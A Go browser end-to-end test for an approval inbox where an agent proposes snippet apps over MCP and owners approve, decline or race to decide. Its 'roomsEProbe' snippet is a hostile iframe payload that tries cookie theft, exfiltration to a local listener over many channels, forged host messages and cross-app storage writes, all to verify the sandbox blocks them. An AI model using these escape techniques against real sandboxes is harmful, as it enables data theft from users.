package server_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"foundry/internal/account"
	"foundry/internal/auth"
	"foundry/internal/browsertest"
	"foundry/internal/mcpclient"
	"foundry/internal/room"
	"foundry/internal/server"
	"foundry/internal/server/servertest"
	"foundry/internal/service"
	"foundry/internal/store"
)

// Rooms end to end, against the real server alone: an agent proposes
// snippets over MCP, the compiler compiles them, the owner reviews them on
// Needs your approval as they arrive, approves some into the launcher,
// where they run in the sandbox, declines another; a member who does not
// own the Room sees nothing and is refused; two owners deciding at once
// make one decision. From inside a real compiled snippet, every way out is
// tried and a listener on 127.0.0.1 hears nothing.

// roomsETally is a snippet of three files: a counter kept in @app/storage.
var roomsETally = map[string]string{
	"src/App.tsx": `import { useState } from "react";
import { useStoredState } from "@app/storage";
import { Button } from "./Button";
import "./styles.css";

// A tally that remembers its count in this browser.
export default function App() {
  const [count, setCount] = useStoredState("count", 0);
  const [label] = useState("Tally");
  return (
    <main className="tally">
      <h1 id="tally-title">{label}</h1>
      <p id="tally-count">Count: {count}</p>
      <Button onClick={() => setCount(count + 1)}>Add one</Button>
    </main>
  );
}
`,
	"src/Button.tsx": `import type { ReactNode } from "react";

export function Button(props: { onClick: () => void; children: ReactNode }) {
  return <button id="tally-add" type="button" className="tally-button" onClick={props.onClick}>{props.children}</button>;
}
`,
	"src/styles.css": `.tally { font-family: system-ui, sans-serif; padding: 1.5rem; }
.tally h1 { color: rgb(40, 82, 200); margin: 0 0 .5rem; }
.tally-button { font: inherit; padding: .4rem .9rem; border-radius: 6px; border: 1px solid #2852c8; background: #2852c8; color: #fff; }
`,
}

// roomsEBroken does not compile: its second line imports a package that
// is not one of its files.
var roomsEBroken = map[string]string{
	"src/App.tsx": "// Shows the time.\nimport pad from \"left-pad\";\nexport default function App() { return <p>{pad(\"1\", 2)}</p>; }\n",
}

// roomsEProbe is the hostile snippet: on load it tries every way out it
// can, writes what happened into #probe (JSON) and sets data-done; its
// #leave button then tries the ways that navigate the frame itself.
// listener and host are the addresses it aims at; victim is the instance
// whose storage it tries to write.
func roomsEProbe(listener, host, roomID string) map[string]string {
	target := fmt.Sprintf("export const L = %q;\nexport const HOST = %q;\nexport const ROOM = %q;\n", listener, host, roomID)
	return map[string]string{
		"src/target.ts": target,
		"src/probe.ts": `import { storage } from "@app/storage";
import { L, HOST, ROOM } from "./target";

type Out = Record<string, string>;
const settle = (ms: number) => new Promise((r) => setTimeout(r, ms));

// tryit runs one attempt; one that neither succeeds nor fails within 3 s
// got nowhere (the listener decides whether it was reached).
async function tryit(out: Out, name: string, f: () => unknown) {
  try {
    const v = await Promise.race([Promise.resolve().then(f), settle(3000).then(() => { throw { name: "no answer in 3 s" }; })]);
    out[name] = "allowed: " + String(v).slice(0, 80);
  } catch (e) {
    out[name] = "blocked: " + ((e as { name?: string })?.name ?? String(e));
  }
}

// The port the runtime talks to the host over, caught from the runtime's
// own next storage call.
async function grabPort(): Promise<MessagePort | null> {
  const orig = MessagePort.prototype.postMessage;
  let port: MessagePort | null = null;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
    port = this;
    return (orig as (...a: unknown[]) => void).apply(this, args);
  } as typeof orig;
  await storage.keys();
  MessagePort.prototype.postMessage = orig;
  return port;
}

// rawCall sends one storage message over the port and waits for its answer.
function rawCall(port: MessagePort, msg: Record<string, unknown>, transfer: Transferable[] = []): Promise<string> {
  const id = 900000 + Math.floor(Math.random() * 100000);
  return new Promise((resolve) => {
    const onMsg = (ev: MessageEvent) => {
      const d = ev.data as { id?: number; ok?: boolean; error?: string };
      if (d && d.id === id) {
        port.removeEventListener("message", onMsg);
        resolve(d.ok ? "accepted" : "refused: " + d.error);
      }
    };
    port.addEventListener("message", onMsg);
    try {
      port.postMessage({ ...msg, id }, transfer);
    } catch (e) {
      resolve("refused: " + (e as Error).name);
    }
    setTimeout(() => resolve("no answer"), 3000);
  });
}

export async function probe(): Promise<Out> {
  const out: Out = {};
  const w = window as unknown as Record<string, unknown>;
  await tryit(out, "parent.document", () => parent.document.title);
  await tryit(out, "parent.document.cookie", () => parent.document.cookie);
  await tryit(out, "document.cookie", () => { const c = document.cookie; if (c === "") throw { name: "empty" }; return c; });
  await tryit(out, "top.location.href", () => top!.location.href);
  await tryit(out, "window.opener", () => { if (window.opener === null) throw { name: "null" }; return window.opener; });
  await tryit(out, "document.domain =", () => { document.domain = "127.0.0.1"; return parent.document.title; });
  await tryit(out, "localStorage", () => localStorage.length);
  await tryit(out, "indexedDB", () => new Promise((res, rej) => { const r = indexedDB.open("x"); r.onsuccess = () => res("opened"); r.onerror = () => rej({ name: "error event" }); }));
  await tryit(out, "caches", () => caches.keys());
  await tryit(out, "fetch app origin", () => fetch(HOST + "/api/me").then((r) => r.status));
  await tryit(out, "fetch app origin credentials", () => fetch(HOST + "/api/rooms", { credentials: "include" }).then((r) => r.status));
  await tryit(out, "fetch listener", () => fetch(L + "/fetch").then((r) => r.status));
  await tryit(out, "fetch listener no-cors", () => fetch(L + "/no-cors", { mode: "no-cors" }).then((r) => r.type));
  await tryit(out, "xhr", () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open("GET", L + "/xhr"); x.onload = () => res(x.status); x.onerror = () => rej({ name: "NetworkError" }); x.send(); }));
  await tryit(out, "new Function fetch", () => new Function("u", "return fetch(u)")(L + "/function"));
  await tryit(out, "eval fetch", () => (0, eval)("fetch('" + L + "/eval')"));
  await tryit(out, "setTimeout string", () => { (setTimeout as unknown as (s: string, n: number) => void)("fetch('" + L + "/timeout')", 0); throw { name: "listener decides" }; });
  await tryit(out, "import() listener", () => { const u = L + "/mod.js"; return import(/* @vite-ignore */ u); });
  await tryit(out, "import() app origin", () => { const u = HOST + "/api/me"; return import(/* @vite-ignore */ u); });
  await tryit(out, "script element", () => new Promise((res, rej) => { const s = document.createElement("script"); s.src = L + "/script.js"; s.onload = () => res("loaded"); s.onerror = () => rej({ name: "error event" }); document.head.append(s); }));
  for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "stylesheet", "modulepreload"]) {
    await tryit(out, "link " + rel, async () => { const l = document.createElement("link"); l.rel = rel; l.href = L + "/link-" + rel; if (rel === "preload") l.as = "fetch"; document.head.append(l); await settle(200); throw { name: "listener decides" }; });
  }
  await tryit(out, "css url() inline", async () => { const d = document.createElement("div"); d.style.backgroundImage = "url(" + L + "/bg.png)"; d.textContent = "x"; document.body.append(d); await settle(200); d.remove(); throw { name: "listener decides" }; });
  await tryit(out, "css url() stylesheet", async () => {
    const css = "@import url(" + L + "/import.css); @font-face { font-family: x; src: url(" + L + "/font.woff); } .probe-bg { background: url(" + L + "/sheet.png); font-family: x; }";
    const l = document.createElement("link"); l.rel = "stylesheet"; l.href = URL.createObjectURL(new Blob([css], { type: "text/css" })); document.head.append(l);
    const d = document.createElement("div"); d.className = "probe-bg"; d.textContent = "x"; document.body.append(d); await settle(300); throw { name: "listener decides" };
  });
  await tryit(out, "style element", async () => { const s = document.createElement("style"); s.textContent = "body { background: url(" + L + "/style.png); }"; document.head.append(s); await settle(200); s.remove(); throw { name: "listener decides" }; });
  await tryit(out, "image", () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded"); i.onerror = () => rej({ name: "error event" }); i.src = L + "/img.png"; }));
  await tryit(out, "svg image", async () => { const d = document.createElement("div"); d.innerHTML = '<svg><image href="' + L + '/svg.png"/></svg>'; document.body.append(d); await settle(200); throw { name: "listener decides" }; });
  await tryit(out, "video poster", async () => { const v = document.createElement("video"); v.poster = L + "/poster.png"; v.src = L + "/video.mp4"; document.body.append(v); await settle(200); throw { name: "listener decides" }; });
  await tryit(out, "audio", async () => { const a = new Audio(L + "/audio.mp3"); a.play().catch(() => {}); await settle(200); throw { name: "listener decides" }; });
  await tryit(out, "WebSocket", () => new Promise((res, rej) => { const s = new WebSocket(L.replace("http", "ws") + "/ws"); s.onopen = () => res("open"); s.onerror = () => rej({ name: "error event" }); }));
  await tryit(out, "EventSource", () => new Promise((res, rej) => { const s = new EventSource(L + "/sse"); s.onopen = () => res("open"); s.onerror = () => { s.close(); rej({ name: "error event" }); }; }));
  await tryit(out, "sendBeacon", () => { if (!navigator.sendBeacon(L + "/beacon", "x")) throw { name: "refused" }; return "queued"; });
  await tryit(out, "RTCPeerConnection", () => { const C = (w.RTCPeerConnection ?? w.webkitRTCPeerConnection) as (new (c: unknown) => unknown) | undefined; if (!C) throw { name: "undefined" }; return new C({ iceServers: [{ urls: "stun:" + L.split("//")[1] }] }); });
  await tryit(out, "RTCDataChannel", () => { if (w.RTCDataChannel === undefined) throw { name: "undefined" }; return "there"; });
  await tryit(out, "RTCPeerConnection from a blank frame", () => { const f = document.createElement("iframe"); document.body.append(f); const cw = f.contentWindow as unknown as Record<string, unknown> | null; if (!cw || !cw.RTCPeerConnection) throw { name: "no constructor" }; return "there"; });
  await tryit(out, "WebTransport", () => { if (w.WebTransport === undefined) throw { name: "undefined" }; return new (w.WebTransport as new (u: string) => unknown)(L.replace("http", "https") + "/wt"); });
  await tryit(out, "navigator.serviceWorker", () => navigator.serviceWorker.register(L + "/sw.js"));
  await tryit(out, "Worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + L + "/worker')"], { type: "text/javascript" }))));
  await tryit(out, "SharedWorker", () => new SharedWorker(L + "/shared.js"));
  await tryit(out, "window.open", () => { const x = window.open(L + "/popup"); if (!x) throw { name: "null" }; return "opened"; });
  await tryit(out, "form submit _blank", async () => { const f = document.createElement("form"); f.method = "POST"; f.action = L + "/form-blank"; f.target = "_blank"; document.body.append(f); f.submit(); await settle(200); f.remove(); throw { name: "listener decides" }; });
  await tryit(out, "form submit _top", async () => { const f = document.createElement("form"); f.action = L + "/form-top"; f.target = "_top"; document.body.append(f); f.submit(); await settle(200); f.remove(); throw { name: "listener decides" }; });
  await tryit(out, "top.location =", () => { (top as unknown as { location: string }).location = L + "/top"; return "navigating"; });
  await tryit(out, "window.top.location.href =", () => { window.top!.location.href = L + "/top-href"; return "navigating"; });
  await tryit(out, "parent.location.replace", () => { parent.location.replace(L + "/replace"); return "navigating"; });
  await tryit(out, "history.pushState elsewhere", () => { history.pushState(null, "", L + "/push"); return location.href; });
  await tryit(out, "history.replaceState elsewhere", () => { history.replaceState(null, "", L.replace("127.0.0.1", "localhost") + "/replace"); return location.href; });
  await tryit(out, "Notification", async () => { if (typeof Notification === "undefined") throw { name: "undefined" }; const p = await Notification.requestPermission(); if (p !== "granted") throw { name: p }; return new Notification("x"); });
  await tryit(out, "clipboard write", () => navigator.clipboard.writeText("stolen"));
  await tryit(out, "clipboard read", () => navigator.clipboard.readText());
  await tryit(out, "getUserMedia", () => navigator.mediaDevices.getUserMedia({ audio: true }));
  await tryit(out, "geolocation", () => new Promise((res, rej) => navigator.geolocation.getCurrentPosition(res, (e) => rej({ name: "code " + e.code }))));
  await tryit(out, "nested frame to listener", async () => { const f = document.createElement("iframe"); f.src = L + "/frame"; document.body.append(f); await settle(300); throw { name: "listener decides" }; });
  await tryit(out, "object element", async () => { const o = document.createElement("object"); o.data = L + "/obj"; document.body.append(o); await settle(200); throw { name: "listener decides" }; });
  await tryit(out, "navigator.credentials", () => navigator.credentials.get({ password: true } as CredentialRequestOptions));
  await tryit(out, "requestStorageAccess", () => document.requestStorageAccess());
  await tryit(out, "PaymentRequest", () => { if (typeof PaymentRequest === "undefined") throw { name: "undefined" }; return new PaymentRequest([{ supportedMethods: L + "/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).show(); });
  await tryit(out, "anchor ping", async () => { const a = document.createElement("a"); a.href = "#x"; a.ping = L + "/ping"; document.body.append(a); a.click(); await settle(200); a.remove(); throw { name: "listener decides" }; });

  // The host, pretended to: messages to the page that embeds this frame.
  for (const [name, msg] of [
    ["forged storage set", { type: "storage", op: "set", id: 1, key: "count", value: "999" }],
    ["forged storage-result", { type: "storage-result", id: 1, ok: true, value: "x" }],
    ["forged connect", { type: "foundry:connect" }],
    ["forged load", { type: "load", js: "fetch('" + L + "/forged-load')", css: "" }],
  ] as const) {
    await tryit(out, "parent.postMessage " + name, () => { parent.postMessage(msg, "*"); throw { name: "the host decides" }; });
  }
  await tryit(out, "parent.postMessage with a port", () => { const ch = new MessageChannel(); parent.postMessage({ type: "storage", op: "keys", id: 2 }, "*", [ch.port2]); throw { name: "the host decides" }; });
  await tryit(out, "parent.postMessage non-JSON", () => { parent.postMessage(() => 1, "*"); return "sent"; });
  await tryit(out, "parent.postMessage huge", () => { parent.postMessage("x".repeat(32 << 20), "*"); throw { name: "the host decides" }; });

  // Over the runtime's own port: other instances' keys, bad shapes, floods.
  const port = await grabPort();
  out["port"] = port ? "caught" : "not caught";
  if (port) {
    const res: Record<string, string> = {};
    res["set another app's key"] = await rawCall(port, { type: "storage", op: "set", key: "../app_other:count", value: "999" });
    res["set another room's key"] = await rawCall(port, { type: "storage", op: "set", key: ROOM + ":app_other:count", value: "999" });
    res["non-JSON value"] = await rawCall(port, { type: "storage", op: "set", key: "raw", value: "{not json" });
    res["object value"] = await rawCall(port, { type: "storage", op: "set", key: "obj", value: { a: 1 } });
    res["huge value"] = await rawCall(port, { type: "storage", op: "set", key: "huge", value: "\"" + "x".repeat(8 << 20) + "\"" });
    res["huge key"] = await rawCall(port, { type: "storage", op: "get", key: "k".repeat(1 << 20) });
    res["unknown op"] = await rawCall(port, { type: "storage", op: "clear" });
    res["number key"] = await rawCall(port, { type: "storage", op: "get", key: 7 });
    res["a port inside"] = await rawCall(port, { type: "storage", op: "set", key: "p", value: "{" }, [new MessageChannel().port2]);
    try { port.postMessage({ type: "storage", op: "get", key: "x", id: 5, value: () => 1 }); res["function"] = "sent"; } catch (e) { res["function"] = "refused: " + (e as Error).name; }
    out["port results"] = "blocked: " + JSON.stringify(res);
  }
  await settle(500);
  return out;
}

// leave tries the ways that navigate this frame itself (the host's
// frame-src keeps it in).
export function leave(how: string) {
  switch (how) {
    case "meta": {
      const m = document.createElement("meta");
      m.httpEquiv = "refresh";
      m.content = "0;url=" + L + "/meta-refresh";
      document.head.append(m);
      break;
    }
    case "location":
      location.href = L + "/location";
      break;
    case "form": {
      const f = document.createElement("form");
      f.method = "POST";
      f.action = L + "/form-self";
      document.body.append(f);
      f.submit();
      break;
    }
    case "download": {
      const a = document.createElement("a");
      a.href = L + "/download";
      a.download = "x";
      document.body.append(a);
      a.click();
      break;
    }
    case "back":
      history.back();
      break;
    case "go":
      history.go(-2);
      break;
    case "same-server page":
      location.href = HOST + "/approvals";
      break;
    case "anchor": {
      const a = document.createElement("a");
      a.href = L + "/anchor";
      document.body.append(a);
      a.click();
      break;
    }
  }
}
`,
		"src/App.tsx": `import { useEffect, useState } from "react";
import { leave, probe } from "./probe";

(globalThis as unknown as { __leave: typeof leave }).__leave = leave;

export default function App() {
  const [out, setOut] = useState<string>("");
  useEffect(() => { probe().then((r) => setOut(JSON.stringify(r)), (e) => setOut(JSON.stringify({ probe: "crashed: " + String(e) }))); }, []);
  return (
    <main>
      <h1>Prober</h1>
      <pre id="probe" data-done={out ? "yes" : "no"}>{out}</pre>
    </main>
  );
}
`,
	}
}

// roomsEMember adds a person to the workspace, with a password.
func roomsEMember(t *testing.T, e *servertest.Env, name, email, role string) store.User {
	t.Helper()
	u := store.User{ID: store.NewID("usr"), Workspace: e.Owner.Workspace.ID, Email: email, Name: name, Role: role, CreatedAt: time.Now().UTC()}
	if err := e.Server.Store.CreateUser(context.Background(), u); err != nil {
		t.Fatal(err)
	}
	if err := account.SetPassword(context.Background(), e.Server.Store, u, "password", ownerPassword); err != nil {
		t.Fatal(err)
	}
	return u
}

// roomsEAPI calls the REST from the page as the page does: the session's
// cookie and CSRF token. It answers the status and the body.
func roomsEAPI(t *testing.T, ctx context.Context, method, path string) (int, string) {
	t.Helper()
	r := run(t, ctx, method+" "+path, chromedp.Evaluate[[]any](fmt.Sprintf(`(async () => {
		const me = await fetch("/api/me").then(r => r.json());
		const r = await fetch(%q, {method: %q, headers: {"X-CSRF-Token": me.csrf_token || ""}});
		return [r.status, await r.text()];
	})()`, path, method), chromedp.EvalAwaitPromise))
	return int(r[0].(float64)), r[1].(string)
}

// roomsEWaitCards waits until the inbox shows exactly these cards.
func roomsEWaitCards(t *testing.T, ctx context.Context, what string, names ...string) {
	t.Helper()
	want, _ := json.Marshal(names)
	do(t, ctx, what, browsertest.Poll(fmt.Sprintf(`JSON.stringify([...document.querySelectorAll("article.proposal-card .proposal-head h2")].map(h => h.innerText.trim()).sort()) === JSON.stringify(%s.sort())`, want)))
}

// roomsEBadge waits until the navigation's badge says n (none for 0).
func roomsEBadge(t *testing.T, ctx context.Context, n int) {
	t.Helper()
	cond := `document.querySelectorAll(".nav-badge").length === 0`
	if n > 0 {
		cond = fmt.Sprintf(`(document.querySelector(".nav-badge")?.innerText ?? "").trim().startsWith(%q)`, fmt.Sprint(n))
	}
	do(t, ctx, fmt.Sprintf("the badge counts %d", n), browsertest.Poll(cond))
}

// TestBrowserRoomsEndToEnd is issue 13 as it is checked, on the real
// server with a real MCP client and real compiled snippets.
func TestBrowserRoomsEndToEnd(t *testing.T) {
	t.Parallel()
	e, ctx := startBrowserEnv(t, server.Config{})
	bg := context.Background()
	listener := sandboxXNewListener(t)
	secret, _, err := auth.CreateToken(bg, e.Server.Store, auth.NewTokenSpec{
		Workspace: e.Owner.Workspace.ID, User: e.Owner.User.ID, Name: "Claude Code", Scopes: []string{auth.ScopeRead, auth.ScopeWrite},
	})
	if err != nil {
		t.Fatal(err)
	}
	agent := e.Client(t, secret, "")
	propose := func(name string, files map[string]string) mcpclient.Result {
		t.Helper()
		r := servertest.MustCall(t, agent, "propose_room_snippet_app", map[string]any{"room_id": e.RoomID, "name": name, "files": files, "idempotency_key": room.SnippetKey(e.RoomID, name, files)})
		if r.IsError {
			t.Fatalf("propose %s: %s", name, r.Text)
		}
		return r
	}

	// The owner opens the inbox; nothing is pending.
	do(t, ctx, "open the inbox", chromedp.Navigate(e.URL+"/approvals"), chromedp.WaitVisible(chromedp.ID("password")))
	signIn(t, ctx, e.Owner.User.Email, ownerPassword)
	do(t, ctx, "the empty inbox", chromedp.WaitVisible(chromedp.ID("approvals-empty")))
	roomsEBadge(t, ctx, 0)

	// The agent proposes; the card arrives on the open page, no reload.
	run(t, ctx, "mark the page", chromedp.Evaluate[chromedp.Void](`window.__noReload = 1`))
	tally := propose("Tally", roomsETally)
	step := tally.Str("next_step")
	if !strings.Contains(step, "Connected → Needs your approval") || !strings.Contains(step, e.URL+"/approvals") || !strings.Contains(step, tally.Str("proposal_id")) || !strings.Contains(step, "foundry proposals approve") {
		t.Errorf("the proposal's next_step does not send the user to the inbox: %q", step)
	}
	roomsEWaitCards(t, ctx, "Tally's card arrives live", "Tally")
	roomsEBadge(t, ctx, 1)
	card := run(t, ctx, "Tally's card", chromedp.Text(inboxXCard("Tally", "")))
	for _, want := range []string{"Tally", "Snippet app", "Proposed by Claude Code", "Team room", "Review all proposed files (3)", "Compiles without errors",
		"Approval makes this code available in the Room app launcher. Review the files before approving.", "Approve and create", "Decline"} {
		if !strings.Contains(card, want) {
			t.Errorf("Tally's card does not say %q:\n%s", want, card)
		}
	}
	do(t, ctx, "Tally's files", browsertest.Click(inboxXCard("Tally", "summary")),
		browsertest.Poll(fmt.Sprintf(`document.querySelectorAll("#p-%s .code-box").length === 3`, tally.Str("proposal_id"))))
	boxes := run(t, ctx, "the boxes", chromedp.Evaluate[map[string]string](fmt.Sprintf(`Object.fromEntries([...document.querySelectorAll("#p-%s .code-box")].map(b => [b.dataset.path, b.innerText]))`, tally.Str("proposal_id"))))
	for path, want := range roomsETally {
		if got := boxes[path]; strings.TrimRight(got, "\n") != strings.TrimRight(want, "\n") {
			t.Errorf("the card shows %s as:\n%s\nwant it in full:\n%s", path, got, want)
		}
	}
	run(t, ctx, "to the top", chromedp.Evaluate[chromedp.Void](`window.scrollTo(0, 0)`))
	noOverflow(t, ctx, "approvals-live")
	accessible(t, ctx, "approvals-live")
	browsertest.Screenshot(t, ctx, "approvals-live")

	// More arrive: one that does not compile, one to decline, the prober,
	// and a repository version.
	broken := propose("Broken clock", roomsEBroken)
	// The agent hears that it does not compile, where, and to fix it.
	if b, _ := broken.Data["build"].(map[string]any); b["state"] != "failed" || len(b["errors"].([]any)) == 0 ||
		!strings.Contains(broken.Str("next_step"), "does not compile") || !strings.Contains(broken.Str("next_step"), "fix those errors") {
		t.Errorf("the agent of a snippet that does not compile hears build %v, next_step %q", broken.Data["build"], broken.Str("next_step"))
	}
	doomed := propose("Doomed", map[string]string{"src/App.tsx": "export default function App() { return <p id=\"doomed\">never runs</p>; }\n"})
	prober := propose("Prober", roomsEProbe(listener.URL, e.URL, e.RoomID))
	repoID, versionID, err := e.Server.Service.PushRepo(bg, asOwner(e), "team-wiki", map[string][]byte{
		"README.md": []byte("# Team wiki\n\nPages for the team.\n"), "index.html": []byte("<!doctype html><title>Wiki</title>\n")})
	if err != nil {
		t.Fatal(err)
	}
	wiki := servertest.MustCall(t, agent, "propose_room_repo_app", map[string]any{"room_id": e.RoomID, "name": "Team wiki", "repository_id": repoID, "version_id": versionID, "idempotency_key": "wiki-" + versionID})
	if wiki.IsError {
		t.Fatalf("propose the repository: %s", wiki.Text)
	}
	roomsEWaitCards(t, ctx, "all five cards, live", "Tally", "Broken clock", "Doomed", "Prober", "Team wiki")
	roomsEBadge(t, ctx, 5)
	// Pending: nothing a browser could run.
	if code, body := roomsEAPI(t, ctx, "GET", "/api/rooms/"+e.RoomID+"/apps/"+tally.Str("instance_id")+"/bundle"); code != http.StatusNotFound || strings.Contains(body, "tally-title") {
		t.Errorf("a pending proposal's bundle: %d %s, want 404", code, body)
	}
	if got := inboxXCards(t, ctx); strings.Join(got, ",") != "Tally,Broken clock,Doomed,Prober,Team wiki" {
		t.Errorf("the cards are %v, want them oldest first", got)
	}
	if v := run(t, ctx, "no reload", chromedp.Evaluate[bool](`window.__noReload === 1`)); !v {
		t.Error("the page was reloaded for the cards to arrive")
	}

	// The compile error, file and line, on its card before the buttons.
	bid := broken.Str("proposal_id")
	compile := run(t, ctx, "the compile error", chromedp.Text(inboxXCard("Broken clock", ".compile")))
	for _, want := range []string{"Does not compile", "src/App.tsx:2:", "left-pad", "The agent was told it does not compile"} {
		if !strings.Contains(compile, want) {
			t.Errorf("Broken clock's card does not say %q:\n%s", want, compile)
		}
	}
	if before := run(t, ctx, "order", chromedp.Evaluate[bool](fmt.Sprintf(`(() => { const c = document.querySelector("#p-%s"); return !!(c.querySelector(".compile").compareDocumentPosition(c.querySelector(".proposal-actions")) & Node.DOCUMENT_POSITION_FOLLOWING); })()`, bid))); !before {
		t.Error("the compile result does not come before the buttons")
	}
	do(t, ctx, "the broken file", browsertest.Click(inboxXCard("Broken clock", "summary")), chromedp.WaitVisible(chromedp.CSS(`#p-`+bid+` .code-line.is-error`)))
	run(t, ctx, "to the top", chromedp.Evaluate[chromedp.Void](`window.scrollTo(0, 0)`))
	browsertest.Screenshot(t, ctx, "approvals-compile-error")

	// The repository card: its pinned code, and no bundle.
	rcard := run(t, ctx, "the repository card", chromedp.Text(inboxXCard("Team wiki", "")))
	for _, want := range []string{"Repository app", "team-wiki", versionID, "This path does not build or deploy a bundle.", "Review repository code before approving"} {
		if !strings.Contains(rcard, want) {
			t.Errorf("the repository card does not say %q:\n%s", want, rcard)
		}
	}
	do(t, ctx, "the repository's pinned files", browsertest.Click(inboxXCard("Team wiki", "summary")),
		chromedp.WaitVisible(chromedp.CSS(`#p-`+wiki.Str("proposal_id")+` .code-box[data-path="README.md"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#p-`+wiki.Str("proposal_id")+` .code-box[data-path="index.html"]`)))

	// A member who does not own the Room: no card, no button, and 403.
	ctx2 := browsertest.New(t)
	member := roomsEMember(t, e, "Mo", "mo@example.org", "member")
	do(t, ctx2, "the member opens the inbox", chromedp.Navigate(e.URL+"/approvals"), chromedp.WaitVisible(chromedp.ID("password")))
	signIn(t, ctx2, member.Email, ownerPassword)
	do(t, ctx2, "the member's inbox", chromedp.WaitVisible(chromedp.ID("approvals-empty")))
	if n := run(t, ctx2, "the member's buttons", chromedp.Evaluate[int](`document.querySelectorAll("article.proposal-card, .proposal-actions button").length + document.querySelectorAll(".nav-badge").length`)); n != 0 {
		t.Errorf("the member sees %d cards, buttons or badges", n)
	}
	for _, how := range []string{"approve", "decline"} {
		if code, body := roomsEAPI(t, ctx2, "POST", "/api/proposals/"+tally.Str("proposal_id")+"/"+how); code != http.StatusForbidden {
			t.Errorf("the member's %s: %d %s, want 403", how, code, body)
		}
	}
	if code, body := roomsEAPI(t, ctx2, "GET", "/api/proposals/"+tally.Str("proposal_id")); code != http.StatusForbidden && code != http.StatusNotFound {
		t.Errorf("the member reads the proposal: %d %s, want 403 or 404", code, body)
	}
	if ps, _ := e.Server.Service.ListProposals(bg, asOwner(e), service.ListProposalsArgs{RoomID: e.RoomID, Status: "pending"}); len(ps) != 5 {
		t.Fatalf("after the member's attempts %d proposals are pending, want 5", len(ps))
	}

	// Two owners approve the same card at once: one decision; the other
	// page says who decided.
	ana := roomsEMember(t, e, "Ana", "ana@example.org", "owner")
	if _, err := chromedp.Call(ctx2, network.ClearBrowserCookies, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	do(t, ctx2, "the member signed out", chromedp.Navigate(e.URL+"/approvals"), chromedp.WaitVisible(chromedp.ID("password")))
	signIn(t, ctx2, ana.Email, ownerPassword)
	do(t, ctx2, "Ana signed in", chromedp.WaitVisible(chromedp.CSS(`article.proposal-card`)))
	roomsEWaitCards(t, ctx2, "Ana's inbox", "Tally", "Broken clock", "Doomed", "Prober", "Team wiki")
	at := time.Now().Add(time.Second).UnixMilli()
	click := fmt.Sprintf(`new Promise(r => setTimeout(() => { const b = [...document.querySelectorAll("article.proposal-card")].find(a => a.querySelector(".proposal-head h2")?.innerText.trim() === "Tally")?.querySelector("button.primary"); if (b) b.click(); r(!!b); }, %d - Date.now()))`, at)
	var wg sync.WaitGroup
	clicked := make([]bool, 2)
	for i, c := range []context.Context{ctx, ctx2} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			v, err := chromedp.Run(c, chromedp.Evaluate[bool](click, chromedp.EvalAwaitPromise))
			clicked[i] = err == nil && v
		}()
	}
	wg.Wait()
	if !clicked[0] || !clicked[1] {
		t.Fatalf("the two clicks: %v", clicked)
	}
	roomsEWaitCards(t, ctx, "Tally's card goes", "Broken clock", "Doomed", "Prober", "Team wiki")
	roomsEWaitCards(t, ctx2, "Tally's card goes for Ana", "Broken clock", "Doomed", "Prober", "Team wiki")
	do(t, ctx, "a notice", browsertest.Poll(`/Tally/.test(document.querySelector(".approval-notices")?.innerText ?? "")`))
	do(t, ctx2, "a notice", browsertest.Poll(`/Tally/.test(document.querySelector(".approval-notices")?.innerText ?? "")`))
	n1 := run(t, ctx, "owner's notice", chromedp.Text(chromedp.CSS(`.approval-notices`)))
	n2 := run(t, ctx2, "Ana's notice", chromedp.Text(chromedp.CSS(`.approval-notices`)))
	approvedBy := ""
	switch {
	case strings.Contains(n1, "already approved by Ana") && strings.Contains(n2, "is approved"):
		approvedBy = "Ana"
	case strings.Contains(n2, "already approved by "+e.Owner.User.Name) && strings.Contains(n1, "is approved"):
		approvedBy = e.Owner.User.Name
	default:
		t.Errorf("two reviewers at once: one page should say it approved, the other who did; they say %q and %q", n1, n2)
	}
	t.Logf("two reviewers at once: approved by %s; the other page said %q", approvedBy, map[bool]string{true: n1, false: n2}[approvedBy == "Ana"])
	roomsEBadge(t, ctx, 4)
	roomsEBadge(t, ctx2, 4)
	if code, body := roomsEAPI(t, ctx, "GET", "/api/rooms/"+e.RoomID); code != http.StatusOK || strings.Count(body, `"instance_id":"`+tally.Str("instance_id")+`"`) != 1 {
		t.Errorf("the Room after two approvals at once: %d %s, want Tally in it once", code, body)
	}

	// Decline: the card goes, and the app never reaches the launcher.
	// A click lands where the button was when it was measured: a card
	// above that leaves at that instant (the live list reloads after the
	// race) moves it, so a missed click is tried again, a few times.
	for attempt := 1; ; attempt++ {
		do(t, ctx, "decline Doomed", browsertest.Click(inboxXCard("Doomed", "button.secondary")))
		short, cancel := context.WithTimeout(ctx, 3*time.Second)
		_, err := chromedp.Run(short, chromedp.WaitVisible(chromedp.CSS(`dialog[open] button.danger`)))
		cancel()
		if err == nil {
			break
		}
		if attempt == 3 {
			dbg := run(t, ctx, "dbg", chromedp.Evaluate[string](`(() => { const c = [...document.querySelectorAll("article.proposal-card")].find(a => a.querySelector(".proposal-head h2")?.innerText.trim() === "Doomed"); return document.activeElement.outerHTML.slice(0,200) + " ||| " + (c ? c.querySelector(".proposal-actions").outerHTML : "no card") + " ||| dialogs " + [...document.querySelectorAll("dialog")].map(d => d.id + ":" + d.open).join(",") + " ||| " + document.querySelector(".approval-notices").innerText + " scroll " + scrollY; })()`))
			t.Fatalf("no confirmation after %d clicks on Decline: %s", attempt, dbg)
		}
	}
	do(t, ctx, "decline", browsertest.Click(chromedp.CSS(`dialog[open] button.danger`)))
	do(t, ctx, "declined", browsertest.Poll(`/“Doomed” is declined/.test(document.querySelector(".approval-notices")?.innerText ?? "")`))
	roomsEWaitCards(t, ctx, "Doomed's card goes", "Broken clock", "Prober", "Team wiki")
	roomsEBadge(t, ctx, 3)

	// Approve the rest; the one that does not compile asks first.
	do(t, ctx, "approve Broken clock", browsertest.Click(inboxXCard("Broken clock", "button.primary")), chromedp.WaitVisible(chromedp.CSS(`dialog[open] button.danger`)))
